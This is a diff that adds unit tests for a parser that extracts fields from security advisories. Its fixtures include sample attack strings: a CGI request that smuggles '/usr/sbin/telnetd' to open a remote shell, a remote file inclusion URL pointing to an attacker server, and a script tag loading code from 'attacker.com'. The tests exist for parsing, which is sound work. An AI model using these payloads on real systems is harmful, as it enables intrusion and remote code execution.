@@ -400,4 +400,31 @@ describe('advisory header blocks', () => {
   it('reads user enumeration as an information disclosure, and does not ask its type', () => {
     expect(fields('User Enumeration using Open SSHD: by sending large passwords, a remote user can enumerate users.').vulnType).toBe('information disclosure');
   });
+
+  it("reads 'Date Published:' as the disclosure date of a report that is out, 'array overrun' as a buffer overflow", () => {
+    const f = fields('Date Reported: 25/06/2007\nDate Published: 05/03/2008\n\nMail messages run any javascript.');
+    expect(f.disclosureDate).toBe('2008-03-05');
+    expect(f.public).toBe(true);
+    expect(fields('[ SeaMonkey 1.1.8 Remote Array Overrun (Arbitrary code execution) ]').vulnType).toBe('buffer overflow');
+  });
+
+  it("takes Core Security's '/-----' … '-----/' fences for code, and no by-line for the title", () => {
+    const text =
+      '>> Multiple vulnerabilities in Acme Manager\n>> Discovered by Jane Doe (jane@example.org), Acme Security\n=========\n\nPoC:\n/-----\nGET /cgi-bin/admin/servetest?cmd=smtp&ServerName=1.1.1.1;/usr/sbin/telnetd; HTTP/1.1\n-----/\n';
+    const f = fields(text);
+    expect(f.poc).toMatch(/^GET \/cgi-bin\/admin\/servetest/);
+    expect(f.title).not.toMatch(/Discovered by/);
+  });
+
+  it("leaves out the attacker's server, download and source-browser links and the lines under 'Original URL:'", () => {
+    const text = [
+      'Original URL:',
+      'http://securityreason.com/achievement_securityalert/71',
+      '',
+      'PoC: http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
+      'Fix: http://www.openbsd.org/cgi-bin/cvsweb/src/lib/libc/gdtoa/sum.c and https://sourceforge.net/projects/pandora/files/3.1.1/',
+      '<script src=http://attacker.com/joom163.js></script>',
+    ].join('\n');
+    expect(extractReport({ text, subject: null }).fields.locations?.value).toEqual(['http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00']);
+  });
 });
